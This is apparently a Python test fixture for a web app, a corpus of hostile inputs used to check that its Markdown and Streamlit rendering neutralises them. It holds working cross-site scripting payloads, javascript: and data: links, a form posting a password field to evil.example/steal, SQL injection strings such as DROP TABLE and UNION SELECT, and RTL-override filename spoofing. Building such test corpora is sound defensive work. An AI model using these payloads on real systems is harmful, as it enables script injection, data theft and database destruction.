"""A corpus of hostile text: cross-site scripting, remote loads, link schemes, Markdown
and Streamlit tricks, LaTeX, SQL-looking text, Unicode oddities and control characters.

Every payload that would make the browser fetch something points at evil.example (never
a loopback host), so a request it causes is caught; every element it would create is
marked ``pwned`` (id or class), and every script it would run sets ``window.__pwned`` or
opens a dialog. Used by the browser test (tests/e2e/test_hostile_input.py), the service
tests (tests/services/test_text_rules.py) and the renderer tests (tests/ui/test_text.py).

``shown`` is what a reader must see of the payload where it is rendered as Markdown (a
substring of the page text, whitespace runs made single spaces): the payload itself
unless Markdown formatting consumes some of it. In a one-line field (a title, a name)
the reader sees :func:`as_line` of the payload, all of it."""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

EVIL = "http://evil.example"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    shown: str | None = None  # in Markdown; None: the payload as one line

    @property
    def line(self) -> str:
        """The payload as a one-line field keeps it."""
        return as_line(self.text)

    @property
    def body(self) -> str:
        """The payload as a Markdown field keeps it."""
        return as_body(self.text)

    @property
    def markdown_shows(self) -> str:
        return normalise(self.shown if self.shown is not None else self.body)


def _dropped(ch: str) -> bool:
    """A control character (or lone surrogate) other than tab and line feed."""
    return ch not in "\t\n" and unicodedata.category(ch) in ("Cc", "Cs")


def as_body(text: str) -> str:
    """Line ends made ``\\n``, control characters but tab and line feed dropped, stripped."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(ch for ch in text if not _dropped(ch)).strip()


def as_line(text: str) -> str:
    """As a body, then every whitespace run made one space."""
    return " ".join(as_body(text).split())


def normalise(text: str) -> str:
    """Page text compared: the invisible characters the renderer adds (a word joiner,
    a bidi isolate around text with bidi controls: see team/ui/text.py) are dropped and
    whitespace runs become one space."""
    return " ".join(text.replace("\u2060", "").replace("\u2068", "").replace("\u2069", "").split())


P = Payload
PAYLOADS: list[Payload] = [
    # --- HTML that would run script or create elements
    P("script_tag", "<script>window.__pwned=1;alert('pwned')</script>"),
    P("script_src", f'<script src="{EVIL}/pwned.js"></script>'),
    P("img_onerror", '<img src=x onerror="alert(\'pwned\')" id="pwned-img" class="pwned">'),
    P("svg_onload", '<svg onload="window.__pwned=1" id="pwned-svg"><circle r="40"/></svg>'),
    P("iframe", f'<iframe src="{EVIL}/frame" id="pwned-frame"></iframe>'),
    P("html_form", f'<form action="{EVIL}/steal" id="pwned-form"><input name="pw"></form>'),
    P("attribute_breakout", f'"><img src={EVIL}/quote.png id=pwned-quote>'),
    P("anchor_tag", f'<a href="{EVIL}/a" class="pwned" onclick="alert(1)">a link</a>'),
    P("style_tag", f"<style>*{{background:url({EVIL}/css.png)}}</style>"),
    P("base_and_meta", f'<base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}">'),
    P("object_embed", f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">'),
    P("html_comment", "<!-- hidden --> after the comment"),
    # --- links and images in Markdown
    P("javascript_link", "[click me](javascript:alert('pwned'))"),
    P("javascript_link_case", "[Click](JaVaScRiPt:window.__pwned=1)"),
    P("javascript_link_angle", "[angle](<javascript:alert('pwned')>)"),
    P("javascript_entity_link", "[entity](jav&#x61;script:alert('pwned'))"),
    P("data_link", "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    P("vbscript_link", "[vb](vbscript:msgbox('pwned'))"),
    P("remote_image", f"![pixel]({EVIL}/pixel.png)", shown="!pixel"),
    P("data_image", "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    P("nested_image_link", f"[![inner]({EVIL}/nested.png)]({EVIL}/)", shown="!inner"),
    P("reference_image", f"[px]: {EVIL}/ref.png\n![tracker][px]", shown="!tracker"),
    P("escaped_reference_image", f"[esc]: {EVIL}/escaped.png\n\\![shot][esc]", shown="!shot"),
    P(
        "reference_js_link",
        "[ev]: javascript:alert('pwned')\n[docs][ev]",
        shown="[ev]: javascript:alert('pwned') [docs][ev]",
    ),
    P("autolink", f"<{EVIL}/autolink>"),
    P("link_title_breakout", f'[t]({EVIL}/ "x\\" onmouseover=\\"alert(1)")', shown="t"),
    # --- Markdown that tries to break out of its block
    P("html_entities", "&lt;b&gt;not bold&lt;/b&gt; &amp; &#60;i&#62; &copy;"),
    P(
        "table_breakout",
        f"| col <b>a</b> | b |\n|---|---|\n| <img src={EVIL}/t.png id=pwned-table> | `x` |",
        shown=f"<img src={EVIL}/t.png id=pwned-table>",
    ),
    P(
        "heading_breakout",
        "# Big <script>alert('pwned')</script>\n## Smaller",
        shown="Big <script>alert('pwned')</script> Smaller",
    ),
    P(
        "code_fence",
        '```html\n<img src=x onerror="window.__pwned=1" id="pwned-fence">\n```',
        shown='<img src=x onerror="window.__pwned=1" id="pwned-fence">',
    ),
    P(
        "inline_code",
        "`<b>bold?</b>` and `&amp;` stay as typed",
        shown="<b>bold?</b> and &amp; stay as typed",
    ),
    P("backslash_html", f"\\<img src={EVIL}/bs.png id=pwned-bs>", shown="<img src="),
    # --- Streamlit and LaTeX
    P("streamlit_directives", ":red[alarm] :blue-background[calm] :material/warning:"),
    P("streamlit_icons", ":streamlit: logo :material/home: :material_home: :smile:"),
    P("bare_directives", "status:green, ratio:blue and background:red stay as typed"),
    P("streamlit_typography", "a -- b -> c <- d <-> e >= f <= g ~= h"),
    P("latex_href", "$$\\href{javascript:alert('pwned')}{click}$$", shown="\\href"),
    P("latex_image", f"$\\includegraphics{{{EVIL}/tex.png}}$", shown="\\includegraphics"),
    P("latex_html_id", "$\\htmlId{pwned-tex}{x}$", shown="\\htmlId"),
    # --- SQL-looking text
    P("sql_drop", "'; DROP TABLE question; --"),
    P("sql_or", '" OR 1=1 --'),
    P("sql_union", "1' UNION SELECT email, name FROM person --"),
    # --- Unicode and control characters
    P("rtl_override", "invoice\u202egnp.exe \u202bmixed\u202c"),
    P("zero_width", "zero\u200bwidth\u200cnon\u200djoiner\ufeffbom"),
    P("emoji", "🔥 churn 👩🏽\u200d💻 🇫🇷 ✅"),
    P("unicode_text", "Ünïcödé “quotes” \u2018single\u2019 … 中文 العربية — ok"),
    P("control_chars", "bell\x07 nul\x00 escape\x1b[31m del\x7f c1\x85 end"),
    P("whitespace", "tab\there  two  spaces\nnew line\r\nwindows line"),
    P("percent_encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    P("long_line", ("<b>long</b> & [x](javascript:y) " * 8).strip()),
]

BY_NAME = {p.name: p for p in PAYLOADS}
# The nastiest few, for fields with short limits or one value (names, links, tracks).
NASTIEST = [
    "img_onerror",
    "remote_image",
    "javascript_link",
    "script_tag",
    "html_entities",
    "control_chars",
]


def nastiest(limit: int) -> list[Payload]:
    """The nastiest payloads whose one-line form fits under ``limit`` characters."""
    return [BY_NAME[n] for n in NASTIEST if len(BY_NAME[n].line) <= limit]


def markdown_corpus(payloads: list[Payload] | None = None) -> str:
    """Every payload, one paragraph each, as typed into a Markdown field."""
    return "\n\n".join(p.text for p in payloads or PAYLOADS)


def too_long(limit: int) -> str:
    """Text one character over ``limit``, with markup in it (so a silent cut would show)."""
    unit = "<b>x</b> ![i](http://evil.example/long.png) "
    return (unit * (limit // len(unit) + 1))[:limit] + "z"
